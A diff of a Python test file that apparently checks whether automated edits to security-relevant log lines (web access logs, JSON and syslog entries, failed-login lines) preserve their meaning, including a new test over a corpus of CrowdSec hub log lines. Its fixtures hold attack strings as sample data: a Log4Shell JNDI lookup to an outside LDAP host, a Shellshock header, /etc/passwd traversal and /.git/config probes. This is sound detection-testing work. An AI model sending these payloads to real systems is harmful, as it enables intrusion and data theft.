@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import base64
+import gzip
+import json
 import re
 from collections import Counter
+from pathlib import Path
 from random import Random
 
 import pytest
@@ -78,6 +81,12 @@ LINES: tuple[str, ...] = (
     access("/", "GET", 200, '"${jndi:ldap://192.0.2.1/a}" "() { :;}; echo"'),
     access("//evil.example.com/%2f..", "GET", 302, '"" ""'),
     access("/shop/garden?garden=1&window=2", "GET", 200, ""),
+    f"Mar  1 10:00:00 kolva nginx[2869]: {access('/wp-login.php', 'POST')}",
+    '{"level":"error","msg":"handled","request":{"client_ip":"203.0.113.9","method":"GET","uri":"/.git/config?a=1",'
+    '"headers":{"User-Agent":["curl/7.88.1"],"Accept":["*/*"]}},"status":404}',
+    '2026-03-01T10:00:00Z stdout F {"method":"GET","x-envoy-origin-path":"/admin","user-agent":"zgrab/0.x"}',
+    '{"ClientHost":"203.0.113.9","RequestPath":"/a/../../etc/passwd","request_User-Agent":"-"}',
+    "level=error msg=\"Unsuccessful attempt by user 'kola1': user not found\" remote_ip=203.0.113.9",
     f"www.example.com {access('/phpmyadmin/index.php?lang=en')}",
     access("/robots.txt", "HEAD", 200, '"-" "Nikto/2.1.6 \\"quoted\\""'),
     '203.0.113.9 - - [01/Mar/2026:10:00:00 +0000] "\\x16\\x03\\x01" 400 162 "-" "-"',
@@ -102,7 +111,8 @@ NAMES = [(domain, name) for domain in PAYLOADS for name in MUTATORS[domain]]
 ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=60)
 PIECES = st.sampled_from(
     ["dns ", "flow ", "flows ", "query=", "type=TXT", " ", ".", "=2^3", "gap", "s", HEX, "x", "\ud800", "\x00", "%",
-     "/", '"', '1 - - [] "GET /', ' HTTP/1.1" 200 1 ', "Invalid user ", "?", "&", "sshd[1]: ", " port ", "7"]
+     "/", '"', '1 - - [] "GET /', ' HTTP/1.1" 200 1 ', "Invalid user ", "?", "&", "sshd[1]: ",
+     " port ", "7", '{"uri":"/', '"}', "user 'a' not found"]
 )  # fmt: skip
 HALF_RIGHT = st.lists(PIECES, max_size=14).map("".join)
 
@@ -168,6 +178,17 @@ def test_chains_keep_the_meaning_of_simulated_attacks() -> None:
     assert counts["dns", "no edit"] == counts["flow", "no edit"] == 0
     for domain in PAYLOADS:
         assert counts[domain, "proved"] > 9 * counts[domain, "unproved"]
+
+
+def test_chains_keep_the_meaning_of_log_lines_of_many_programs(shared_data: Path) -> None:
+    with gzip.open(shared_data / "logs" / "crowdsec-hub.jsonl.gz", "rt", encoding="utf-8") as file:
+        lines = sorted({row["line"] for row in map(json.loads, file) if row["has_scenario"]})
+    edited = [(line, chain(line, MUTATORS["line"], row)) for row, line in enumerate(lines)]
+    pairs = [(line, one.text) for line, one in edited if one.steps]
+    assert len(pairs) > 300
+    counts = Counter(proof.meaning for proof in ORACLES["line"](pairs))
+    assert counts["changed"] == 0
+    assert counts["proved"] > 0.95 * len(pairs)
 
 
 def asked(text: str | None) -> str:
@@ -239,6 +260,8 @@ def test_who_tries_to_log_in_tries_other_names_from_other_ports() -> None:
     names = {str(text).split("user ")[1].split(" from")[0] for text in results("line", "another invalid user", invalid)}
     assert len(names) > 10
     assert results("line", "another invalid user", root) == {None}
+    unknown = results("line", "another invalid user", LINES[21])
+    assert {re.sub(r"'[a-z0-9.]+'", "'kola1'", str(text)) for text in unknown} == {LINES[21]}
     tries = {
         int(re.findall(r"repeated (\d+)", str(text))[0]) for text in results("line", "more failed tries", LINES[-9])
     }
@@ -276,6 +299,12 @@ CHANGED = {
         (LINES[5], access("/etc/passwd")),  # it no longer climbs
         (LINES[3], LINES[3].replace("/.env", "/garden/.env")),
         (LINES[14], LINES[14].replace("jndi", "garden")),  # an attack in the referer
+        (LINES[17], LINES[17].replace("nginx", "httpd")),
+        (LINES[18], LINES[18].replace("/.git/config", "/garden")),
+        (LINES[18], LINES[18].replace("404", "200")),
+        (LINES[18], LINES[18].replace("curl/7.88.1", "garden")),
+        (LINES[18], LINES[18].replace('"status":404}', '"status":404')),
+        (LINES[21], LINES[21].replace("203.0.113.9", "203.0.113.8")),
         (LINES[-13], LINES[-13].replace("203.0.113.9", "203.0.113.8")),
         (LINES[-13], LINES[-13].replace("Invalid", "Valid")),
         (LINES[-11], LINES[-11].replace("root", "garden")),  # a user that may exist
@@ -290,6 +319,7 @@ UNPROVED = {
         (LINES[-1], LINES[-1]),
         ("garden", "garden"),
         (LINES[1], LINES[1].replace("?a=", "?a=1&a=")),  # the first of two may be the one that counts
+        ('{"msg":"login failed"}', '{"msg":"login failed"}'),
         (LINES[11], LINES[11].replace("?8890121518", "?8890121518&garden=1")),
     ],
 }
